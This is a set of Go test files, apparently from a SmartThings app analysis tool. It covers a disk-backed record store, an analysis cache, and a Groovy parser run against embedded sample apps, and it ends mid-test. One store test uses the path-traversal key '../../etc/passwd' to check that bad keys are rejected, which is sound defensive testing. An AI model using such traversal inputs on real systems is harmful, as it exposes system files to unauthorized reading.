	// Rehydration promotes into the in-process level, whose entry count
	// the merged Stats reports.
	if st := c.Stats(); st.Analyses != n {
		t.Fatalf("in-process analyses = %d, want %d", st.Analyses, n)
	}
}

// TestAnalysisCacheStatsMergeBothLevels checks the Stats contract
// field by field: in-process counters plus disk counters, entry counts
// from the in-process level only.
func TestAnalysisCacheStatsMergeBothLevels(t *testing.T) {
	c := NewAnalysisCache(open(t, t.TempDir(), Options{}))
	c.StoreAnalysis(key(1), &core.Analysis{Checked: []string{"P.1"}})

	c.LookupAnalysis(key(1)) // mem hit
	c.LookupAnalysis(key(2)) // mem miss + disk miss

	ms, ds := c.mem.Stats(), c.disk.Stats()
	got := c.Stats()
	if got.Hits != ms.Hits+ds.Hits {
		t.Fatalf("merged Hits = %d, want %d+%d", got.Hits, ms.Hits, ds.Hits)
	}
	if got.Misses != ms.Misses+ds.Misses {
		t.Fatalf("merged Misses = %d, want %d+%d", got.Misses, ms.Misses, ds.Misses)
	}
	if got.Analyses != ms.Analyses || got.IREntries != ms.IREntries {
		t.Fatalf("entry counts not from in-process level: %+v vs %+v", got, ms)
	}
	// The disk store counted the write and the miss.
	if ds.Puts != 1 || ds.Misses == 0 {
		t.Fatalf("disk stats: %+v", ds)
	}
}

// TestAnalysisCacheNilDiskDegrades runs the cache with no persistent
// level: lookups and stores must work purely in process.
func TestAnalysisCacheNilDiskDegrades(t *testing.T) {
	c := NewAnalysisCache(nil)
	c.StoreAnalysis(key(1), &core.Analysis{Checked: []string{"P.2"}})
	if an, ok := c.LookupAnalysis(key(1)); !ok || an.Checked[0] != "P.2" {
		t.Fatalf("in-process only lookup = %+v, %v", an, ok)
	}
	if st := c.Stats(); st.Hits != 1 || st.Analyses != 1 {
		t.Fatalf("stats without disk: %+v", st)
	}
}
