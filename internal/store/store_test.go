package store

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/soteria-analysis/soteria/internal/core"
	"github.com/soteria-analysis/soteria/internal/fsio"
	"github.com/soteria-analysis/soteria/internal/guard/faultinject"
	"github.com/soteria-analysis/soteria/internal/paperapps"
	"github.com/soteria-analysis/soteria/internal/report"
)

func testRecord(n int) *report.Record {
	return &report.Record{
		Schema: report.Schema,
		Apps:   []string{fmt.Sprintf("app-%d", n)},
		States: n,
	}
}

// key returns a distinct valid content address per index.
func key(n int) string {
	return fmt.Sprintf("%064x", n+1)
}

func open(t *testing.T, dir string, opts Options) *Store {
	t.Helper()
	s, err := Open(dir, opts)
	if err != nil {
		t.Fatalf("Open: %v", err)
	}
	return s
}

func TestStoreRoundTripAndRestart(t *testing.T) {
	dir := t.TempDir()
	s := open(t, dir, Options{})
	if err := s.Put(key(1), testRecord(7)); err != nil {
		t.Fatalf("Put: %v", err)
	}
	rec, ok := s.Get(key(1))
	if !ok || rec.States != 7 {
		t.Fatalf("Get after Put = %+v, %v", rec, ok)
	}
	if st := s.Stats(); st.MemHits != 1 || st.Puts != 1 {
		t.Fatalf("stats after warm get: %+v", st)
	}

	// A fresh store over the same directory — a restarted process —
	// serves the same record from disk.
	s2 := open(t, dir, Options{})
	rec, ok = s2.Get(key(1))
	if !ok || rec.States != 7 || rec.Apps[0] != "app-7" {
		t.Fatalf("Get after reopen = %+v, %v", rec, ok)
	}
	if st := s2.Stats(); st.DiskHits != 1 || st.MemHits != 0 {
		t.Fatalf("stats after cold get: %+v", st)
	}
	// Second read is served by the promoted front.
	if _, ok = s2.Get(key(1)); !ok {
		t.Fatalf("promoted Get missed")
	}
	if st := s2.Stats(); st.MemHits != 1 {
		t.Fatalf("stats after promoted get: %+v", st)
	}
}

func TestStoreMissAndInvalidKeys(t *testing.T) {
	s := open(t, t.TempDir(), Options{})
	if _, ok := s.Get(key(9)); ok {
		t.Fatalf("Get of absent key hit")
	}
	for _, bad := range []string{"", "short", "../../etc/passwd", strings.Repeat("Z", 64), key(1) + "/x"} {
		if _, ok := s.Get(bad); ok {
			t.Fatalf("Get(%q) hit", bad)
		}
		if err := s.Put(bad, testRecord(1)); err == nil {
			t.Fatalf("Put(%q) accepted", bad)
		}
	}
	if st := s.Stats(); st.Misses == 0 || st.Hits != 0 {
		t.Fatalf("stats: %+v", st)
	}
}

func TestStoreCorruptionQuarantine(t *testing.T) {
	dir := t.TempDir()
	s := open(t, dir, Options{})
	if err := s.Put(key(1), testRecord(1)); err != nil {
		t.Fatalf("Put: %v", err)
	}
	// Corrupt the record behind the store's back, then read it with a
	// cold front (fresh store): the read must miss, count the
	// corruption, and remove the file.
	path := filepath.Join(dir, key(1)+".json")
	if err := os.WriteFile(path, []byte(`{"schema":1,"truncated`), 0o644); err != nil {
		t.Fatalf("corrupting: %v", err)
	}
	s2 := open(t, dir, Options{NoRecoveryScan: true})
	if _, ok := s2.Get(key(1)); ok {
		t.Fatalf("Get served a corrupt record")
	}
	if st := s2.Stats(); st.Corrupt != 1 || st.Misses != 1 {
		t.Fatalf("stats after corrupt read: %+v", st)
	}
	if _, err := os.Stat(path); !os.IsNotExist(err) {
		t.Fatalf("corrupt record was not quarantined: %v", err)
	}
	// The corrupt bytes are preserved for post-mortem inspection, with
	// the failure reason as suffix.
	moved := filepath.Join(dir, QuarantineDir, key(1)+".json.decode")
	if data, err := os.ReadFile(moved); err != nil || !strings.Contains(string(data), "truncated") {
		t.Fatalf("quarantined bytes not preserved: %q, %v", data, err)
	}
	// Wrong schema version is equally untrusted.
	if err := os.WriteFile(path, []byte(`{"schema":999}`+"\n"), 0o644); err != nil {
		t.Fatalf("writing: %v", err)
	}
	if _, ok := s2.Get(key(1)); ok {
		t.Fatalf("Get served a wrong-schema record")
	}
	// The key is re-writable after quarantine.
	if err := s2.Put(key(1), testRecord(2)); err != nil {
		t.Fatalf("Put after quarantine: %v", err)
	}
	if rec, ok := s2.Get(key(1)); !ok || rec.States != 2 {
		t.Fatalf("Get after re-Put = %+v, %v", rec, ok)
	}
}

func TestStoreLRUEviction(t *testing.T) {
	dir := t.TempDir()
	s := open(t, dir, Options{MaxMemEntries: 2})
	for i := 0; i < 5; i++ {
		if err := s.Put(key(i), testRecord(i)); err != nil {
			t.Fatalf("Put %d: %v", i, err)
		}
	}
	mem, disk := s.Len()
	if mem != 2 || disk != 5 {
		t.Fatalf("Len = (%d, %d), want (2, 5)", mem, disk)
	}
	if st := s.Stats(); st.Evictions != 3 {
		t.Fatalf("evictions = %d, want 3", st.Evictions)
	}
	// Evicted entries are still served — from disk.
	if rec, ok := s.Get(key(0)); !ok || rec.States != 0 {
		t.Fatalf("Get of evicted key = %+v, %v", rec, ok)
	}
	if st := s.Stats(); st.DiskHits != 1 {
		t.Fatalf("stats after evicted get: %+v", st)
	}
}

func TestStoreChecksumDetectsBitRot(t *testing.T) {
	dir := t.TempDir()
	s := open(t, dir, Options{})
	if err := s.Put(key(1), testRecord(1)); err != nil {
		t.Fatalf("Put: %v", err)
	}
	// Flip one payload byte in place: the JSON may still parse, but the
	// checksum must not.
	path := filepath.Join(dir, key(1)+".json")
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("reading record: %v", err)
	}
	if !strings.HasPrefix(string(data), "soteria-record 2 ") {
		t.Fatalf("record has no checksum header: %q", data[:32])
	}
	flipped := append([]byte{}, data...)
	flipped[len(flipped)-10] ^= 0x01
	if err := os.WriteFile(path, flipped, 0o644); err != nil {
		t.Fatalf("writing flipped record: %v", err)
	}
	s2 := open(t, dir, Options{NoRecoveryScan: true})
	if _, ok := s2.Get(key(1)); ok {
		t.Fatalf("Get served a bit-rotted record")
	}
	if _, err := os.Stat(filepath.Join(dir, QuarantineDir, key(1)+".json.badsum")); err != nil {
		t.Fatalf("bit-rotted record not quarantined as badsum: %v", err)
	}
}

func TestStoreReadsLegacyRecords(t *testing.T) {
	dir := t.TempDir()
	s := open(t, dir, Options{})
	// A pre-header store wrote bare canonical JSON; it must still be
	// served (and survive the recovery scan).
	data, err := report.Encode(testRecord(3))
	if err != nil {
		t.Fatalf("encode: %v", err)
	}
	if err := os.WriteFile(filepath.Join(dir, key(3)+".json"), data, 0o644); err != nil {
		t.Fatalf("writing legacy record: %v", err)
	}
	s = open(t, dir, Options{})
	if rs := s.Recovery(); rs.Quarantined != 0 || rs.Scanned != 1 {
		t.Fatalf("recovery scan rejected legacy record: %+v", rs)
	}
	if rec, ok := s.Get(key(3)); !ok || rec.States != 3 {
		t.Fatalf("Get of legacy record = %+v, %v", rec, ok)
	}
}

func TestOpenRecoveryScanQuarantinesTornRecords(t *testing.T) {
	dir := t.TempDir()
	s := open(t, dir, Options{})
	for i := 0; i < 3; i++ {
		if err := s.Put(key(i), testRecord(i)); err != nil {
			t.Fatalf("Put: %v", err)
		}
	}
	// Tear record 1 mid-payload (header intact, payload short) and
	// leave an orphan temp file — the post-crash disk image.
	path := filepath.Join(dir, key(1)+".json")
	data, _ := os.ReadFile(path)
	if err := os.WriteFile(path, data[:len(data)-7], 0o644); err != nil {
		t.Fatalf("tearing record: %v", err)
	}
	if err := os.WriteFile(filepath.Join(dir, ".tmp-crashed"), []byte("partial"), 0o644); err != nil {
		t.Fatalf("writing temp: %v", err)
	}

	s2 := open(t, dir, Options{})
	rs := s2.Recovery()
	if rs.TempsSwept != 1 || rs.Quarantined != 1 || rs.Scanned != 3 {
		t.Fatalf("recovery stats: %+v", rs)
	}
	if st := s2.Stats(); st.Corrupt != 1 {
		t.Fatalf("scan quarantine not counted: %+v", st)
	}
	// The torn record is gone from the serving path, preserved in
	// quarantine, and the healthy records still serve.
	if _, ok := s2.Get(key(1)); ok {
		t.Fatalf("Get served a torn record after recovery")
	}
	if _, err := os.Stat(filepath.Join(dir, QuarantineDir, key(1)+".json.torn")); err != nil {
		t.Fatalf("torn record not preserved: %v", err)
	}
	for _, i := range []int{0, 2} {
		if rec, ok := s2.Get(key(i)); !ok || rec.States != i {
			t.Fatalf("healthy record %d lost after recovery: %+v, %v", i, rec, ok)
		}
	}
}

func TestPutFaultInjection(t *testing.T) {
	defer faultinject.Reset()
	boom := errors.New("injected disk fault")
	cases := []struct {
		name string
		site string
	}{
		{"short write", faultinject.SiteFSWrite},
		{"fsync failure", faultinject.SiteFSSync},
		{"rename crash", faultinject.SiteFSRename},
		{"create failure", faultinject.SiteFSCreate},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			s := open(t, dir, Options{FS: fsio.Faulty{Inner: fsio.OS{}}})
			if err := s.Put(key(7), testRecord(7)); err != nil {
				t.Fatalf("healthy Put: %v", err)
			}
			faultinject.ArmError(tc.site, "", boom)
			err := s.Put(key(8), testRecord(8))
			faultinject.Disarm(tc.site)
			if err == nil {
				t.Fatalf("Put under %s succeeded", tc.name)
			}
			// The failed Put must not be promoted into the memory front…
			if _, ok := s.Get(key(8)); ok {
				t.Fatalf("failed Put is served from memory")
			}
			// …must not have disturbed the earlier record…
			if rec, ok := s.Get(key(7)); !ok || rec.States != 7 {
				t.Fatalf("earlier record lost: %+v, %v", rec, ok)
			}
			// …and a reopened store (the restarted process) serves no
			// trace of it: either the temp never landed or the sweep
			// removes it.
			s2 := open(t, dir, Options{})
			if _, ok := s2.Get(key(8)); ok {
				t.Fatalf("failed Put visible after reopen")
			}
			if rs := s2.Recovery(); rs.Quarantined != 0 {
				t.Fatalf("failed Put left a quarantined record: %+v", rs)
			}
			entries, _ := os.ReadDir(dir)
			for _, e := range entries {
				if strings.HasPrefix(e.Name(), ".tmp-") {
					t.Fatalf("temp file %s survived reopen", e.Name())
				}
			}
		})
	}
}

func TestPutSurvivesDirSyncFailure(t *testing.T) {
	defer faultinject.Reset()
	dir := t.TempDir()
	s := open(t, dir, Options{FS: fsio.Faulty{Inner: fsio.OS{}}})
	// A failed directory fsync after a completed rename is not a data
	// loss: the record is fsynced and in place.
	faultinject.ArmError(faultinject.SiteFSSyncDir, "", errors.New("dir sync failed"))
	if err := s.Put(key(1), testRecord(1)); err != nil {
		t.Fatalf("Put failed on dir-sync error: %v", err)
	}
	faultinject.Reset()
	if rec, ok := open(t, dir, Options{}).Get(key(1)); !ok || rec.States != 1 {
		t.Fatalf("record lost: %+v, %v", rec, ok)
	}
}

func TestOpenSweepsTempFiles(t *testing.T) {
	dir := t.TempDir()
	tmp := filepath.Join(dir, ".tmp-crashed")
	if err := os.WriteFile(tmp, []byte("partial"), 0o644); err != nil {
		t.Fatalf("writing temp: %v", err)
	}
	open(t, dir, Options{})
	if _, err := os.Stat(tmp); !os.IsNotExist(err) {
		t.Fatalf("Open left crashed temp file: %v", err)
	}
}

func TestStoreConcurrent(t *testing.T) {
	s := open(t, t.TempDir(), Options{MaxMemEntries: 4})
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 50; i++ {
				k := key(i % 10)
				if i%2 == 0 {
					if err := s.Put(k, testRecord(i%10)); err != nil {
						t.Errorf("Put: %v", err)
						return
					}
				} else if rec, ok := s.Get(k); ok && rec.States != i%10 {
					t.Errorf("Get(%s) = states %d, want %d", k, rec.States, i%10)
					return
				}
			}
		}(w)
	}
	wg.Wait()
}

func TestNilStoreInert(t *testing.T) {
	var s *Store
	if _, ok := s.Get(key(1)); ok {
		t.Fatalf("nil store hit")
	}
	if err := s.Put(key(1), testRecord(1)); err != nil {
		t.Fatalf("nil store Put: %v", err)
	}
	if st := s.Stats(); st.Puts != 0 {
		t.Fatalf("nil store stats: %+v", st)
	}
}

// TestAnalysisCacheCrossRestart runs a batch through an AnalysisCache,
// then repeats it in a "new process" (fresh AnalysisCache, same
// directory) and requires the analysis to be served from disk with the
// same verdicts.
func TestAnalysisCacheCrossRestart(t *testing.T) {
	dir := t.TempDir()
	item := core.BatchItem{
		Key:     "smoke",
		Sources: []core.NamedSource{{Name: "smoke-alarm", Source: paperapps.SmokeAlarm}},
	}
	run := func() core.BatchResult {
		cache := NewAnalysisCache(open(t, dir, Options{}))
		bo := core.BatchOptions{Options: core.DefaultOptions(), Cache: cache}
		return core.AnalyzeBatch(context.Background(), bo, item)[0]
	}
	first := run()
	if first.Err != nil || first.Cached {
		t.Fatalf("first run: err=%v cached=%v", first.Err, first.Cached)
	}
	second := run()
	if second.Err != nil || !second.Cached {
		t.Fatalf("second run: err=%v cached=%v", second.Err, second.Cached)
	}
	want := first.Analysis.ViolatedIDs()
	got := second.Analysis.ViolatedIDs()
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Fatalf("rehydrated verdicts %v, want %v", got, want)
	}
	if fmt.Sprint(second.Analysis.Checked) != fmt.Sprint(first.Analysis.Checked) {
		t.Fatalf("rehydrated Checked %v, want %v", second.Analysis.Checked, first.Analysis.Checked)
	}
	// Rehydrated analyses are model-less by contract.
	if second.Analysis.Model != nil {
		t.Fatalf("rehydrated analysis has a model")
	}
}

func TestAnalysisCacheStats(t *testing.T) {
	cache := NewAnalysisCache(open(t, t.TempDir(), Options{}))
	k := key(1)
	if _, ok := cache.LookupAnalysis(k); ok {
		t.Fatalf("empty cache hit")
	}
	cache.StoreAnalysis(k, &core.Analysis{Checked: []string{"P.1"}})
	if an, ok := cache.LookupAnalysis(k); !ok || len(an.Checked) != 1 {
		t.Fatalf("lookup after store: %v", ok)
	}
	st := cache.Stats()
	if st.Hits == 0 || st.Misses == 0 {
		t.Fatalf("merged stats: %+v", st)
	}
	// Incomplete analyses must not be persisted.
	k2 := key(2)
	cache.StoreAnalysis(k2, &core.Analysis{Incomplete: true})
	if _, ok := cache.LookupAnalysis(k2); ok {
		t.Fatalf("incomplete analysis was cached")
	}
}
