package store

import "github.com/soteria-analysis/soteria/internal/report"

// Backend is the pluggable result-store contract the serving tier
// reads and writes through. The local disk Store is the canonical
// implementation; the cluster's PeerBackend implements it by routing
// each key to its owning replica, so a node that analyzed a key once
// serves the whole fleet's cache hits for it.
//
// Semantics every implementation must honor:
//
//   - Get is a cache lookup, never an error source: unreachable
//     replicas, corrupt records, and invalid keys are all misses.
//   - Put is best-effort durable: an error means the record is not
//     promised to survive, and callers degrade to re-analysis rather
//     than failing the request.
//   - Records are immutable and canonical (report.Encode): two Puts
//     under one key carry byte-identical payloads, so replicas never
//     need conflict resolution.
//   - All methods are safe for concurrent use.
type Backend interface {
	Get(key string) (*report.Record, bool)
	Put(key string, rec *report.Record) error
	Stats() Stats
}

var _ Backend = (*Store)(nil)
