package groovy

import (
	"strings"
	"testing"
	"testing/quick"
)

// smokeAlarmSrc is the Smoke-Alarm app from the paper's Appendix A.1
// (Listing 1), verbatim except for trimmed metadata strings.
const smokeAlarmSrc = `
/**
 * Smoke-Alarm app
 * Author:Soteria
 */
definition(
    name: "SmartApp",
    namespace: "mygithubusername",
    author: "Model Analyzer",
    description: "Smoke-Detector App introduced in Section 3.",
    category: "Safety & Security",
    iconUrl: "https://example.com/icon.png")

preferences {
    section("Select smoke detector: "){
        input "smoke_detector", "capability.smokeDetector", title: "Which detector?", required: true
    }
    section("Select switch for low batter notification: "){
        input "the_switch", "capability.switch", title: "Which switch?", required: true
    }
    section("Select alarm device: ") {
        input "the_alarm", "capability.alarm", title: "Which alarm?", required: true
    }
    section("Select water valve: "){
        input "the_valve", "capability.valve", title: "Which valve?", required: true
    }
    section("Select battery settings: "){
        input "the_battery", "capability.battery", title: "Which battery?", required: true
    }
    section( "Low battery warning: "){
        input "thrshld", "number", title: "Low Battery Threshold", required: true
    }
}

def installed()
{
    initialize()
}

def updated()
{
    unsubscribe()
    initialize()
}

private initialize() {
    subscribe(smoke_detector, "smoke", smokeHandler)
    subscribe(the_battery, "battery", batteryHandler)
}

def smokeHandler(evt) {
    log.trace "$evt.value: $evt, $settings"
    String theMessage
    log.debug "event created at: ${evt.date}"

    if (evt.value == "tested") {
        theMessage = "${evt.displayName} tested for smoke."
    } else if (evt.value == "clear") {
        theMessage = "${evt.displayName} is clear for smoke."
        the_alarm.off()
        the_valve.close()
        log.debug "evt clear"
    } else if (evt.value == "detected") {
        theMessage = "${evt.displayName} detected smoke!"
        the_alarm.siren()
        the_valve.open()
    } else {
        theMessage = ("Unknown event received ${evt.name}")
    }
    log.warn "$theMessage"
}

def batteryHandler(evt) {
    log.trace "$evt.value: $evt, $settings"
    def String theMessage
    def check = thrshld
    def battLevel = findBatteryLevel()

    if (battLevel < check) {
        the_switch.on()
        theMessage = "${evt.displayName} has battery ${battLevel}"
    }
}

def findBatteryLevel(){
    return the_battery.currentValue("battery").integerValue
}
`

// waterLeakSrc is the Water-Leak-Detector app from Appendix A.2.
const waterLeakSrc = `
definition(
    name: "SmartApp",
    namespace: "mygithubusername",
    author: "Model Analyzer",
    description: "Water-Leak-Detector app introduced in Section 3.",
    category: "Safety & Security")

preferences {
    section("When there's water detected...") {
        input "water_sensor", "capability.waterSensor", title: "Where?"
        input "valve_device", "capability.valve", title: "Valve device"
    }
    section("Send a notification to...") {
        input("recipients", "contact", title: "Recipients", description: "Send notifications to") {
            input "phone", "phone", title: "Phone number?", required: false
        }
    }
}

def installed(){
    subscribe(water_sensor, "water.wet", waterWetHandler)
}

def updated(){
    unsubscribe()
    subscribe(water_sensor, "water.wet", waterWetHandler)
}

def waterWetHandler(evt){
    def deltaSeconds = 60

    def timeAgo = new Date(now() - (1000 * deltaSeconds))
    def recentEvents = water_sensor.eventsSince(timeAgo)
    log.debug "Found ${recentEvents?.size() ?: 0} events in the last $deltaSeconds seconds"
    valve_device.close()
    def alreadySentSms = recentEvents.count {it.value && it.value == "wet"} > 1
    if (alreadySentSms){
        log.debug "SMS already sent within the last $deltaSeconds seconds"
    }else{
        def msg = "${water_sensor.displayName} is wet!"
        if (location.contactBookEnabled){
            sendNotificationToContacts(msg, recipients)
        }
        else{
            sendPush(msg)
            if (phone) {
                sendSms(phone, msg)
            }
        }
    }
}
`

// thermostatSrc is the Thermostat-Energy-Control app from Appendix A.3.
const thermostatSrc = `
definition(
    name: "SmartApp",
    namespace: "mygithubusername",
    author: "Model Analyzer",
    description: "Thermostat-Energy-Control",
    category: "Green Living")

preferences {
    section("Control") {
        input "ther", "capability.thermostat", title: "Thermostat", required:true
    }
    section("Select the door lock:") {
        input "the_lock", "capability.lock", required: true
    }
    section("Select the thermostat energy meter to monitor:") {
        input "power_meter", "capability.powerMeter", title: "Energy Meters", required: true
        input "price_kwh", "number", title: "thereshold value for energy usage", required: true
    }
    section("Select the heater outlet switch:"){
        input "the_switch", "capability.switch", title: "Outlets", required: true
    }
}

def installed(){
    initialize()
}

def updated(){
    unsubscribe()
    unschedule()
    initialize()
}

def initialize(){
    subscribe(location, "mode", modeChangeHandler)
    subscribe(power_meter, "power", powerHandler)
}

def modeChangeHandler(evt) {
    def temp = 68
    setTemp(temp)
    the_lock.lock()
}

def setTemp(t){
    ther.setHeatingSetpoint(t)
    def msg = "heating and cooling point set, door is locked!"
    send(msg)
}

def powerHandler(evt){
    def above_thrshld_val = 50
    def below_thrshld_val = 5
    def dUnit = evt.unit ?: "Watts"

    power_val = get_power()

    if (power_val > above_thrshld_val ){
        the_switch.off()
        send("above")
    }
    if (power_val < below_thrshld_val ){
        the_switch.on()
        send("below")
    }
}

def get_power(){
    latest_power = power_meter.currentValue("power")
    return latest_power
}

def send(msg){
    if(location.contactBookEnabled) {
        if (recipients) {
            sendNotificationToContacts(msg, recipients)
        }
    }
    if (phoneNumber) {
        sendSms( phoneNumber, msg)
    }
}
`

func parseOK(t *testing.T, name, src string) *File {
	t.Helper()
	f, err := Parse(name, src)
	if err != nil {
		t.Fatalf("Parse(%s): %v", name, err)
	}
	return f
}

func TestParseSmokeAlarm(t *testing.T) {
	f := parseOK(t, "smoke-alarm", smokeAlarmSrc)
	wantMethods := []string{"installed", "updated", "initialize", "smokeHandler", "batteryHandler", "findBatteryLevel"}
	if len(f.Methods) != len(wantMethods) {
		var got []string
		for _, m := range f.Methods {
			got = append(got, m.Name)
		}
		t.Fatalf("methods = %v, want %v", got, wantMethods)
	}
	for i, w := range wantMethods {
		if f.Methods[i].Name != w {
			t.Errorf("method %d = %s, want %s", i, f.Methods[i].Name, w)
		}
	}
	if !f.MethodByName("initialize").Private {
		t.Error("initialize should be private")
	}
	// Top level: definition(...) and preferences{...}.
	if len(f.Stmts) != 2 {
		t.Fatalf("top-level stmts = %d, want 2", len(f.Stmts))
	}
}

func TestParseDefinitionNamedArgs(t *testing.T) {
	f := parseOK(t, "smoke-alarm", smokeAlarmSrc)
	es, ok := f.Stmts[0].(*ExprStmt)
	if !ok {
		t.Fatalf("stmt 0 is %T", f.Stmts[0])
	}
	call, ok := es.X.(*CallExpr)
	if !ok || call.Name != "definition" {
		t.Fatalf("stmt 0 = %s", Format(es.X))
	}
	named := map[string]bool{}
	for _, na := range call.NamedArgs {
		named[na.Key] = true
	}
	for _, k := range []string{"name", "namespace", "author", "description", "category"} {
		if !named[k] {
			t.Errorf("missing named arg %q", k)
		}
	}
}

func TestParsePreferencesNesting(t *testing.T) {
	f := parseOK(t, "smoke-alarm", smokeAlarmSrc)
	es := f.Stmts[1].(*ExprStmt)
	prefs := es.X.(*CallExpr)
	if prefs.Name != "preferences" || prefs.Closure == nil {
		t.Fatalf("preferences = %s", Format(es.X))
	}
	// Count input command calls across all sections.
	inputs := 0
	Walk(prefs.Closure, func(n Node) bool {
		if c, ok := n.(*CallExpr); ok && c.Name == "input" {
			inputs++
		}
		return true
	})
	if inputs != 6 {
		t.Errorf("found %d input calls, want 6", inputs)
	}
}

func TestParseCommandCallArgs(t *testing.T) {
	f := parseOK(t, "t", `input "thrshld", "number", title: "Low Battery Threshold", required: true`)
	call := f.Stmts[0].(*ExprStmt).X.(*CallExpr)
	if call.Name != "input" || !call.Command {
		t.Fatalf("got %s", Format(call))
	}
	if len(call.Args) != 2 {
		t.Fatalf("args = %d, want 2", len(call.Args))
	}
	if s, ok := StringValue(call.Args[0]); !ok || s != "thrshld" {
		t.Errorf("arg0 = %s", Format(call.Args[0]))
	}
	if len(call.NamedArgs) != 2 {
		t.Fatalf("named args = %d, want 2", len(call.NamedArgs))
	}
	if call.NamedArgs[1].Key != "required" {
		t.Errorf("named arg 1 key = %q", call.NamedArgs[1].Key)
	}
	if b, ok := call.NamedArgs[1].Value.(*BoolLit); !ok || !b.Value {
		t.Errorf("required = %s", Format(call.NamedArgs[1].Value))
	}
}

func TestParseIfElseChain(t *testing.T) {
	f := parseOK(t, "smoke-alarm", smokeAlarmSrc)
	h := f.MethodByName("smokeHandler")
	var ifs *IfStmt
	for _, s := range h.Body.Stmts {
		if i, ok := s.(*IfStmt); ok {
			ifs = i
			break
		}
	}
	if ifs == nil {
		t.Fatal("no if statement in smokeHandler")
	}
	// Chain depth: tested -> clear -> detected -> else.
	depth := 0
	for cur := Stmt(ifs); cur != nil; {
		i, ok := cur.(*IfStmt)
		if !ok {
			break
		}
		depth++
		cur = i.Else
	}
	if depth != 3 {
		t.Errorf("if-chain depth = %d, want 3", depth)
	}
	// First condition is evt.value == "tested".
	cond := ifs.Cond.(*BinaryExpr)
	if cond.Op != EQ || Format(cond.L) != "evt.value" {
		t.Errorf("cond = %s", Format(ifs.Cond))
	}
}

func TestParseMethodBodyBraceOnNextLine(t *testing.T) {
	f := parseOK(t, "t", "def installed()\n{\n  initialize()\n}")
	if len(f.Methods) != 1 || f.Methods[0].Name != "installed" {
		t.Fatalf("methods = %+v", f.Methods)
	}
}

func TestParseWaterLeak(t *testing.T) {
	f := parseOK(t, "water-leak", waterLeakSrc)
	h := f.MethodByName("waterWetHandler")
	if h == nil {
		t.Fatal("waterWetHandler not found")
	}
	// `new Date(now() - (1000 * deltaSeconds))`
	var foundNew *NewExpr
	Walk(h, func(n Node) bool {
		if ne, ok := n.(*NewExpr); ok {
			foundNew = ne
		}
		return true
	})
	if foundNew == nil || foundNew.Type != "Date" || len(foundNew.Args) != 1 {
		t.Errorf("new expr = %+v", foundNew)
	}
	// Closure-only call: recentEvents.count { ... } > 1
	var countCall *CallExpr
	Walk(h, func(n Node) bool {
		if c, ok := n.(*CallExpr); ok && c.Name == "count" {
			countCall = c
		}
		return true
	})
	if countCall == nil || countCall.Closure == nil {
		t.Fatal("count{...} call not found")
	}
}

func TestParseThermostat(t *testing.T) {
	f := parseOK(t, "thermostat", thermostatSrc)
	h := f.MethodByName("powerHandler")
	if h == nil {
		t.Fatal("powerHandler not found")
	}
	// Elvis operator: evt.unit ?: "Watts"
	var elvis *ElvisExpr
	Walk(h, func(n Node) bool {
		if e, ok := n.(*ElvisExpr); ok {
			elvis = e
		}
		return true
	})
	if elvis == nil {
		t.Fatal("elvis expression not found")
	}
	if Format(elvis.Value) != "evt.unit" {
		t.Errorf("elvis value = %s", Format(elvis.Value))
	}
}

func TestParseReflectionCall(t *testing.T) {
	src := `
def getMethod(){
    httpGet("http://url"){ resp ->
        if(resp.status == 200){
            name = resp.data.toString()
        }
    }
    "$name"()
}
def foo() { x = 1 }
def bar() { y = 2 }
`
	f := parseOK(t, "reflect", src)
	g := f.MethodByName("getMethod")
	var dyn *CallExpr
	Walk(g, func(n Node) bool {
		if c, ok := n.(*CallExpr); ok && c.Dynamic != nil {
			dyn = c
		}
		return true
	})
	if dyn == nil {
		t.Fatal("dynamic call not found")
	}
	gs := dyn.Dynamic.(*GStringLit)
	if len(gs.Parts) != 1 || !gs.Parts[0].IsExpr {
		t.Errorf("dynamic callee parts = %+v", gs.Parts)
	}
	// httpGet with trailing closure taking `resp ->`.
	var httpGet *CallExpr
	Walk(g, func(n Node) bool {
		if c, ok := n.(*CallExpr); ok && c.Name == "httpGet" {
			httpGet = c
		}
		return true
	})
	if httpGet == nil || httpGet.Closure == nil {
		t.Fatal("httpGet{...} not found")
	}
	if len(httpGet.Closure.Params) != 1 || httpGet.Closure.Params[0] != "resp" {
		t.Errorf("closure params = %v", httpGet.Closure.Params)
	}
}

func TestParseStateVariable(t *testing.T) {
	src := `
def turnedOnHandler() {
    state.counter = state.counter + 1
    if (state.counter > threshold){
        theSwitch.off()
    }
}
`
	f := parseOK(t, "state", src)
	h := f.MethodByName("turnedOnHandler")
	as, ok := h.Body.Stmts[0].(*AssignStmt)
	if !ok {
		t.Fatalf("stmt 0 is %T", h.Body.Stmts[0])
	}
	lhs := as.LHS.(*PropExpr)
	if Format(lhs) != "state.counter" {
		t.Errorf("lhs = %s", Format(lhs))
	}
}

func TestParseTernary(t *testing.T) {
	f := parseOK(t, "t", "def h() { x = a > 1 ? b : c }")
	var tern *TernaryExpr
	Walk(f.Methods[0], func(n Node) bool {
		if e, ok := n.(*TernaryExpr); ok {
			tern = e
		}
		return true
	})
	if tern == nil {
		t.Fatal("no ternary")
	}
	if Format(tern) != "((a > 1) ? b : c)" {
		t.Errorf("ternary = %s", Format(tern))
	}
}

func TestParsePrecedence(t *testing.T) {
	cases := map[string]string{
		"a + b * c":        "(a + (b * c))",
		"a * b + c":        "((a * b) + c)",
		"a || b && c":      "(a || (b && c))",
		"a == b && c != d": "((a == b) && (c != d))",
		"!a && b":          "(!a && b)",
		"a < b == true":    "((a < b) == true)",
		"-a + b":           "(-a + b)",
	}
	for src, want := range cases {
		e, err := ParseExpr(src)
		if err != nil {
			t.Errorf("%q: %v", src, err)
			continue
		}
		if got := Format(e); got != want {
			t.Errorf("%q: got %s want %s", src, got, want)
		}
	}
}

func TestParseListsAndMaps(t *testing.T) {
	e, err := ParseExpr(`[1, 2, 3]`)
	if err != nil {
		t.Fatal(err)
	}
	if l, ok := e.(*ListLit); !ok || len(l.Elems) != 3 {
		t.Errorf("list = %s", Format(e))
	}
	e, err = ParseExpr(`[a: 1, b: "two"]`)
	if err != nil {
		t.Fatal(err)
	}
	if m, ok := e.(*MapLit); !ok || len(m.Entries) != 2 || m.Entries[1].Key != "b" {
